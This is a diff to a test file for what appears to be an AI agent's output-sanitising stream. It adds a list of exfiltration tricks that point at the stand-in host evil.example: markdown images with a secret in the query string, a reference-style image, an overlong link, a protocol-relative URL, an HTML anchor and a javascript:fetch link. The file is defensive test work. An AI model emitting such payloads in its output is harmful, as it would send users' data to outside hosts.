@@ -175,3 +175,27 @@ def test_api_stream_and_slack_updates_carry_nothing_active(hostile_llm, seeded: 
         assert_inert(json.dumps(payload, ensure_ascii=False), listener)
     assert "1181万次" in json.dumps(reply["blocks"], ensure_ascii=False)
     assert listener.requests == []
+
+
+TRICKS = [
+    "Intro.\n![a\nb](//evil.example/p.png?d=SECRET) more. Good [1].",  # link text over lines
+    "Intro. ![x][1] ok.\n\n[1]: //evil.example/p.png\nGood [1].",  # by reference
+    "Intro. ![" + "a" * 2500 + "](//evil.example/p.png) after. Good [1].",  # past the hold
+    "See //evil.example/x?q=1 now. Good [1].",  # protocol-relative
+    "Go <a href='https://evil.example/'>here</a> now. Good [1].",
+    "Good [1]. [click](javascript:fetch('//evil.example'))",
+]
+
+
+@pytest.mark.parametrize("text", TRICKS, ids=range(len(TRICKS)))
+@pytest.mark.parametrize("size", [1, 2, 5, 40])
+def test_inert_stream_releases_no_active_content_however_tokens_fall(text: str,
+                                                                     size: int) -> None:
+    from agent.safety import InertStream
+
+    stream = InertStream(lambda: "")
+    shown = [stream.feed(text[i : i + size]) for i in range(0, len(text), size)]
+    shown.append(stream.finish())
+    released = "".join(shown)
+    assert "evil" not in released and "![" not in released and "<a" not in released
+    assert "Good [1]." in released
